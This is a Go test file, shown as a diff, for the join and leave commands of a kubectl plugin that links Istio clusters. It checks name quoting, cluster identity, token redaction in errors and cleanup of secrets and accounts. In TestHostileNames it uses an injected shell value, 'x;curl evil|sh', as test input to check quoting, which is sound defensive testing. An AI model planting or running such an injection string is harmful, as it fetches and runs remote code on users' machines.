@@ -1,0 +1,391 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package join
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/apimachinery/pkg/util/sets"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+	"sigs.k8s.io/controller-runtime/pkg/client/fake"
+	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
+
+	"github.com/istiod-agent/istiod-agent/cli/clusters"
+	"github.com/istiod-agent/istiod-agent/cli/remotes"
+)
+
+// An API server that reports the name of another cluster gets nothing of that cluster's remote secret.
+func TestOtherCluster(t *testing.T) {
+	t.Parallel()
+	elsewhere := func(s *remotes.Secret) {
+		s.AccountUID, s.Server, s.CA = "u-other", "https://other.example:6443", []byte("other CA")
+	}
+	none := func(s *clusterState) { s.Accounts = nil }
+	for name, test := range map[string]struct {
+		secret remotes.Secret
+		two    *clusterState
+		want   string
+	}{
+		"of join":              {joined(elsewhere), state("two"), "is of another cluster that is named two too: neither the account of its token nor its address is of context two; if two was made anew, remove its old access, and join again: kubectl istiod-agent leave two --context=one --namespace=istio-system; else one of both needs another name: set another global"},
+		"expired":              {joined(elsewhere, func(s *remotes.Secret) { s.Expires = now }), state("two"), "is of another cluster that is named two too"},
+		"a CA of both":         {joined(elsewhere, func(s *remotes.Secret) { s.CA = []byte("CA") }), state("two"), "is of another cluster that is named two too"},
+		"a token without UID":  {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "" }), state("two", none), "is of another cluster that is named two too"},
+		"of istioctl":          {joined(foreign, elsewhere), state("two"), "join again: kubectl --context=one delete secret -n istio-system istio-remote-secret-two"},
+		"the account moved":    {joined(func(s *remotes.Secret) { s.AccountUID = "u-other" }), state("two"), ""},
+		"the address moved":    {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "u-one" }), state("two"), ""},
+		"istioctl, the server": {joined(foreign, elsewhere), state("two", func(s *clusterState) { s.Accounts[named("istio-reader-service-account")] = "u-other" }), ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secret)), test.two}, now)
+			if test.want == "" {
+				wantProblems(t, problems, nil)
+				return
+			}
+			wantProblems(t, problems, []string{test.want})
+		})
+	}
+}
+
+func TestHostileNames(t *testing.T) {
+	t.Parallel()
+	const hostile = "x;curl evil|sh"
+	_, problems := decide(joinRequest{}, []*clusterState{state("one", func(s *clusterState) {
+		s.Namespace, s.Istiods[0].Name, s.Istiods[0].Crashes = hostile, hostile, true
+	}), state("two")}, now)
+	wantProblems(t, problems, []string{"kubectl --context=one set env -n '" + hostile + "' deployment/'" + hostile + "' PILOT_"})
+
+	a := newApplication(t, fakeCluster(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: hostile}}), &grant{})
+	a.targets[0].Namespace, a.plan.Label, a.plan.Expose = hostile, []bool{true}, []bool{false}
+	if err := a.writeNetwork(t.Context(), 0, false); err != nil {
+		t.Fatal(err)
+	}
+	if got := a.changes[0].command; !strings.Contains(got, "label namespace '"+hostile+"' ") {
+		t.Error(got)
+	}
+}
+
+func TestHostileRevisions(t *testing.T) {
+	t.Parallel()
+	revisions := func(of ...string) func(*clusterState) {
+		return func(s *clusterState) {
+			s.Istiods = nil
+			for _, revision := range of {
+				s.Istiods = append(s.Istiods, istiodState{Name: "istiod-" + revision, ClusterID: "one", Revision: revision})
+			}
+		}
+	}
+	var many []string
+	for i := range maxRevisions + 1 {
+		many = append(many, fmt.Sprintf("r%d", i))
+	}
+	for name, test := range map[string]struct {
+		revisions, configs []string
+		want               []string
+	}{
+		"usual":    {[]string{"default", "canary", "canary"}, []string{"istio-canary", "istio"}, nil},
+		"no label": {[]string{"*"}, nil, []string{`one: an istiod of namespace istio-system has the revision "*" (REVISION of its Deployment)`}},
+		"a path":   {[]string{"a/../b"}, nil, []string{`has the revision "a/../b"`}},
+		"long":     {[]string{strings.Repeat("a", 64)}, nil, []string{`has the revision "aaa`}},
+		"the most": {many[:maxRevisions], nil, nil},
+		"too many": {many, nil, []string{"one: namespace istio-system has istiods of 21 revisions, and join gives at most 20"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			plan, problems := decide(joinRequest{}, []*clusterState{state("one", revisions(test.revisions...)), state("two")}, now)
+			wantProblems(t, problems, test.want)
+			if test.configs != nil && !slices.Equal(plan.Grants[0].MeshConfigs, test.configs) {
+				t.Errorf("got %q", plan.Grants[0].MeshConfigs)
+			}
+		})
+	}
+}
+
+// The Secret that join names is never its own where there is another.
+func TestSuperfluous(t *testing.T) {
+	t.Parallel()
+	own := joined()
+	renamed := joined(func(s *remotes.Secret) { s.Key.Name = "renamed" })
+	other := joined(foreign, func(s *remotes.Secret) { s.Key.Name = "a-other" })
+	for _, test := range []struct {
+		secrets []remotes.Secret
+		want    string
+	}{
+		{[]remotes.Secret{other, own}, "a-other"},
+		{[]remotes.Secret{own, other}, "a-other"},
+		{[]remotes.Secret{renamed, own}, "renamed"},
+		{[]remotes.Secret{own, renamed}, "renamed"},
+	} {
+		_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secrets...)), state("two")}, now)
+		wantProblems(t, problems, []string{"delete one: kubectl --context=one delete secret -n istio-system " + test.want})
+		if !strings.HasSuffix(problems[0], " "+test.want) {
+			t.Error(problems[0])
+		}
+	}
+}
+
+func TestOverride(t *testing.T) {
+	t.Parallel()
+	for name, test := range map[string]struct {
+		kubeconfig, published, want string
+		differ                      bool
+	}{
+		"another CA":         {"mine", "hostile", "mine", true},
+		"the same":           {"mine", "mine\n", "mine", false},
+		"none published":     {"mine", "", "mine", false},
+		"none in kubeconfig": {"", "own", "own", false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			var objects []client.Object
+			if test.published != "" {
+				objects = append(objects, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: rootCAConfigMap}, Data: map[string]string{"ca.crt": test.published}})
+			}
+			one := state("one")
+			one.Address.CA = []byte(test.kubeconfig)
+			if err := one.override(t.Context(), fakeCluster(objects...), "https://192.0.2.1:6443"); err != nil {
+				t.Fatal(err)
+			}
+			plan, _ := decide(joinRequest{}, []*clusterState{one, state("two")}, now)
+			if string(one.Address.CA) != test.want || one.Address.Server != "https://192.0.2.1:6443" || (len(plan.Notes) == 1) != test.differ {
+				t.Errorf("got %+v, %q", one.Address, plan.Notes)
+			}
+		})
+	}
+}
+
+func fakeCluster(objects ...client.Object) *clusters.Cluster {
+	return &clusters.Cluster{Context: "one", Client: fake.NewClientBuilder().WithObjects(objects...).Build()}
+}
+
+func newApplication(t *testing.T, c *clusters.Cluster, g *grant) *application {
+	t.Helper()
+	return &application{targets: []*target{{clusterState: state("one"), cluster: c}}, plan: &joinPlan{Grants: []*grant{g}}}
+}
+
+// token of an account, as an API server issues it.
+func issued(account types.NamespacedName, expires time.Time) token {
+	payload := fmt.Sprintf(`{"sub":"system:serviceaccount:%s:%s","exp":%d}`, account.Namespace, account.Name, expires.Unix())
+	return token{"eyJhbGciOiJub25lIn0." + base64.RawURLEncoding.EncodeToString([]byte(payload)) + ".c2lnbmF0dXJlLW9mLXRoZS10b2tlbi0wMTIzNDU2Nzg5", expires}
+}
+
+func renewed(version string) *grant {
+	return &grant{
+		Use:    remotes.Use{Reader: "one", Target: "two", ReaderNamespace: "istio-system", TargetNamespace: "istio-system"},
+		Action: renewal, Secret: named("istio-remote-secret-two"), Version: version, Address: remotes.Address{Server: "https://two.example:6443"},
+	}
+}
+
+// An API server or a webhook that quotes the Secret in its refusal does not bring the token to the terminal.
+func TestQuotedToken(t *testing.T) {
+	t.Parallel()
+	secretToken := issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))
+	signature := secretToken.text[strings.LastIndexByte(secretToken.text, '.')+1:]
+	for name, quote := range map[string]func(kubeconfig string) string{
+		"text":           func(kubeconfig string) string { return kubeconfig },
+		"base64":         func(kubeconfig string) string { return base64.StdEncoding.EncodeToString([]byte(kubeconfig)) },
+		"base64, cut":    func(kubeconfig string) string { return base64.StdEncoding.EncodeToString([]byte(kubeconfig[7:])) },
+		"another base64": func(kubeconfig string) string { return base64.RawURLEncoding.EncodeToString([]byte(kubeconfig[2:])) },
+		"signature":      func(string) string { return signature },
+		"part":           func(string) string { return signature[3:] },
+		"token twice":    func(string) string { return secretToken.text + " " + secretToken.text },
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			stored := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-remote-secret-two"}}
+			c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(stored).WithInterceptorFuncs(interceptor.Funcs{
+				Update: func(_ context.Context, _ client.WithWatch, object client.Object, _ ...client.UpdateOption) error {
+					secret, _ := object.(*corev1.Secret)
+					return apierrors.NewForbidden(schema.GroupResource{Resource: "secrets"}, secret.Name, errors.New("webhook says: no "+quote(string(secret.Data["two"]))+" here"))
+				},
+			}).Build()}
+			current := &corev1.Secret{}
+			if err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(stored), current); err != nil {
+				t.Fatal(err)
+			}
+			err := newApplication(t, c, renewed(current.ResourceVersion)).writeSecrets(t.Context(), 0, []token{secretToken}, false)
+			if err == nil || !strings.Contains(err.Error(), "webhook says: no ") || !strings.Contains(err.Error(), " here") || !strings.Contains(err.Error(), "[token]") {
+				t.Fatalf("got %v", err)
+			}
+			for _, form := range []string{
+				signature, base64.RawStdEncoding.EncodeToString([]byte(signature)), base64.RawStdEncoding.EncodeToString([]byte(signature[1:])),
+				base64.RawStdEncoding.EncodeToString([]byte(signature[2:])),
+			} {
+				for i := 0; i+quoted <= len(form); i++ {
+					if strings.Contains(err.Error(), form[i:i+quoted]) {
+						t.Fatalf("the error has a part of the token: %s", form[i:i+quoted])
+					}
+				}
+			}
+		})
+	}
+	plain := errors.New("no quote")
+	if got := withoutToken(plain, secretToken.text); got != plain { //nolint:errorlint // the same
+		t.Error(got)
+	}
+	if got := withoutToken(plain, ""); got != plain { //nolint:errorlint // the same
+		t.Error(got)
+	}
+}
+
+// A Secret that changed after join decided on it is not overwritten, and what was made is taken back.
+func TestChangedMeanwhile(t *testing.T) {
+	t.Parallel()
+	other := func() *corev1.Secret {
+		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-remote-secret-two"}, Data: map[string][]byte{"two": []byte("of somebody else")}}
+	}
+	for name, objects := range map[string][]client.Object{"changed": {other()}, "deleted": nil} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			c := fakeCluster(objects...)
+			err := newApplication(t, c, renewed("1")).writeSecrets(t.Context(), 0, []token{issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))}, false)
+			if err == nil || err.Error() != "Secret istio-system/istio-remote-secret-two was changed by somebody else meanwhile; run join again" {
+				t.Errorf("got %v", err)
+			}
+			stored := &corev1.Secret{}
+			switch err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(other()), stored); {
+			case objects == nil && !apierrors.IsNotFound(err):
+				t.Errorf("it is there: %v", err)
+			case objects != nil && string(stored.Data["two"]) != "of somebody else":
+				t.Error("it is overwritten")
+			}
+		})
+	}
+	t.Run("between read and write", func(t *testing.T) {
+		t.Parallel()
+		var changed bool
+		c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(other()).WithInterceptorFuncs(interceptor.Funcs{
+			Update: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.UpdateOption) error {
+				current := other()
+				if err := c.Get(ctx, client.ObjectKeyFromObject(current), current); err != nil {
+					return err
+				}
+				current.Labels, changed = map[string]string{"another": "change"}, true
+				if err := c.Update(ctx, current); err != nil {
+					return err
+				}
+				return c.Update(ctx, object, options...)
+			},
+		}).Build()}
+		stored := other()
+		if err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(stored), stored); err != nil {
+			t.Fatal(err)
+		}
+		a := newApplication(t, c, renewed(stored.ResourceVersion))
+		err := a.writeSecrets(t.Context(), 0, []token{issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))}, false)
+		if err == nil || !changed || !strings.Contains(err.Error(), "was changed by somebody else meanwhile") || len(a.changes) != 0 {
+			t.Errorf("got %v, %v", err, a.changes)
+		}
+	})
+}
+
+// leaving is the result for context one, and its API server's objects.
+func leaving(s *clusterState, objects ...client.Object) *leaveResult {
+	c := fakeCluster(objects...)
+	return &leaveResult{Context: s.Context, Cluster: s.name(), Removed: []string{}, state: s, cluster: c, kubectl: s.Kubectl}
+}
+
+func labelled(partner string) map[string]string {
+	return map[string]string{remotes.PartnerLabel: partner}
+}
+
+func removeAll(t *testing.T, r *leaveResult) string {
+	t.Helper()
+	var f leaveFlags
+	if err := errors.Join(f.removeSecrets(t.Context(), r), f.removeAccounts(t.Context(), r)); err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	r.print(&out, false)
+	return out.String()
+}
+
+// The label alone makes nothing an object of join.
+func TestLeaveByLabelAndName(t *testing.T) {
+	t.Parallel()
+	use := remotes.Use{Reader: "two", Target: "one", TargetNamespace: "istio-system"}
+	account, role, binding := use.Account([]string{"istio"})
+	other := gateway("istio-system")
+	other.SetName("another-gateway")
+	r := leaving(state("one"),
+		account, role, binding, gateway("istio-system"), other,
+		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istiod", Labels: labelled("x")}},
+		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istiod-agent-remote-two-copy", Labels: labelled("two")}},
+		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "cluster-admin", Labels: labelled("two")}},
+	)
+	got := removeAll(t, r)
+	want := []string{
+		"Gateway istio-system/cross-network-gateway", "ClusterRoleBinding istiod-agent-remote:istio-system:two", "ClusterRole istiod-agent-remote:istio-system:two",
+		"ServiceAccount istio-system/istiod-agent-remote-two",
+	}
+	if !slices.Equal(r.Removed, want) {
+		t.Errorf("got %q\n%s", r.Removed, got)
+	}
+}
+
+// A Secret with a further cluster stays, and so does one of a namespace with a shorter name, which join did not make.
+func TestLeaveSecrets(t *testing.T) {
+	t.Parallel()
+	parsed := func(namespace, name, partner string, clusters ...string) remotes.Secret {
+		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: labelled(partner)}, Data: map[string][]byte{}}
+		for _, cluster := range clusters {
+			s.Data[cluster] = []byte("x")
+		}
+		return remotes.Parse(s)
+	}
+	r := leaving(state("one", with(
+		parsed("istio-system", "two", "two", "two"),
+		parsed("istio-system", "both", "two", "two", "three"),
+		parsed("istio-system", "renamed", "three", "two"),
+		parsed("x", "y;z\n", "", "two"),
+		parsed("istio-system", "three", "three", "three"),
+	)))
+	r.partners = sets.New("two")
+	got := removeAll(t, r)
+	want := `one: Secret istio-system/two removed
+one: Secret istio-system/both remains, because it holds the kubeconfigs of 2 clusters; move those that stay to another Secret; to remove it: kubectl --context=one delete secret -n istio-system both
+one: Secret istio-system/renamed remains, because join did not create it; to remove it: kubectl --context=one delete secret -n istio-system renamed
+one: Secret x/y;z remains, because join did not create it; to remove it: kubectl --context=one delete secret -n x 'y;z '
+`
+	if got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
+
+// A context that reports the name of another cluster does not take that cluster's access along.
+func TestLeaveOtherCluster(t *testing.T) {
+	t.Parallel()
+	use := remotes.Use{Reader: "two", Target: "one", TargetNamespace: "istio-system"}
+	account, role, binding := use.Account([]string{"istio"})
+	two := leaving(state("two"))
+	same := leaving(state("one", with(joined())), account, role, binding)
+	for _, r := range []*leaveResult{same, two} {
+		r.meet([]*leaveResult{same, two})
+	}
+	if got := removeAll(t, same); !strings.Contains(got, "one: Secret istio-system/istio-remote-secret-two removed") || !strings.Contains(got, "ServiceAccount istio-system/istiod-agent-remote-two removed") {
+		t.Error(got)
+	}
+
+	hostile := leaving(state("two", func(s *clusterState) { s.Accounts = nil; s.Address.Server = "https://hostile.example" }))
+	other := leaving(state("one", with(joined())), account.DeepCopy(), role.DeepCopy(), binding.DeepCopy())
+	other.meet([]*leaveResult{other, hostile})
+	got := removeAll(t, other)
+	want := "one: Secret istio-system/istio-remote-secret-two remains, because the context whose istiod is named two has neither the account of its token nor its address: it may be of another cluster; to remove it: kubectl istiod-agent leave two --context=one --namespace=istio-system\n"
+	if got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
